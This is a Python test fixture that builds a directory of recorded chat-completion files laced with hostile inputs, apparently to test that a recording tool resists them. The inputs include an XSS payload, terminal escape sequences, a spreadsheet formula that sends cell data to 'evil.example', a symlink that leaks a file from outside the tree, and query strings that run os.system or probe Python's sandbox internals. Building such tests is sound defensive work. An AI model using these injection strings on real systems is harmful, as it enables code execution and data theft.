"""A tree whose every field and file name carries HTML, terminal escapes and a formula."""

from __future__ import annotations

from pathlib import Path

import orjson

PAYLOAD = "<img src=x onerror=window.__pwned=1>"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
SECRET = "secret-model-outside-the-tree"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def recording(test_id: str, model: str, text: str, tool: str = "lookup") -> dict:
    chunk = {"__type__": "openai.types.chat.chat_completion_chunk.ChatCompletionChunk",
             "__data__": {"id": "c1", "model": model, "object": "chat.completion.chunk",
                          "choices": [{"index": 0, "finish_reason": "stop", "delta": {
                              "role": "assistant", "content": text,
                              "tool_calls": [{"index": 0, "id": "call_1", "type": "function",
                                              "function": {"name": tool,
                                                           "arguments": '{"q": "x"}'}}]}}]}}
    return {"test_id": test_id,
            "request": {"method": "POST", "url": "http://localhost/v1/chat/completions",
                        "endpoint": "/v1/chat/completions", "model": model,
                        "body": {"model": model, "stream": True,
                                 "messages": [{"role": "user", "content": text}],
                                 "tools": [{"type": "function", "function": {
                                     "name": tool, "description": text}}]}},
            "response": {"is_streaming": True, "body": [chunk]}}


GOOD = recording("tests/integration/inference/test_a.py::test_ok", "gpt-4o", "hello")


def hostile_tree(base: Path) -> Path:
    """Two good recordings, one whose every field (and file name) carries HTML, terminal
    escapes and a formula, one broken file with such a name, and a link out of the tree."""
    root = base / "tree" / "tests" / "integration"
    folder = root / "inference" / "recordings"
    folder.mkdir(parents=True)
    for n in range(2):
        (folder / f"good{n}.json").write_bytes(orjson.dumps(GOOD))
    evil = recording(f"tests/integration/inference/test_x.py::test_{PAYLOAD}{ESCAPES}",
                     f"{FORMULA}{PAYLOAD}", f"text {PAYLOAD} {ESCAPES}", tool=PAYLOAD)
    (folder / f"evil{PAYLOAD.replace('/', '')}{ESCAPES}.json").write_bytes(orjson.dumps(evil))
    (folder / f"broken{PAYLOAD.replace('/', '')}\x1b[2J.json").write_bytes(b"{not json")
    outside = base / "outside"
    outside.mkdir()
    (outside / "secret.json").write_bytes(orjson.dumps(recording("t", SECRET, "secret")))
    (folder / "leak.json").symlink_to(outside / "secret.json")
    return root


MARKER = "pwned-marker"
RUNNING = [
    f'@fnmatch.os.system("touch {MARKER}") == 0',
    f'__import__("os").system("touch {MARKER}") == 0',
    f'model.str.contains(__import__("os").system("touch {MARKER}"))',
    f'(lambda: __import__("os").system("touch {MARKER}"))() == 0',
    'prompt_tokens.__class__.__init__.__globals__ == 1',
    '[c for c in ().__class__.__base__.__subclasses__()] == []',
    f'model.apply(lambda m: open("{MARKER}", "w")) == 1',
    f'model.str.contains("a", __import__("os").system("touch {MARKER}"))',
    'provider[0] == "o"',
    'prompt_tokens > 1 if True else 2',
    'model == f"{1}"',
    'path.__len__() > 0',
]


def outside_cache(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if "cache" not in p.relative_to(folder).parts}
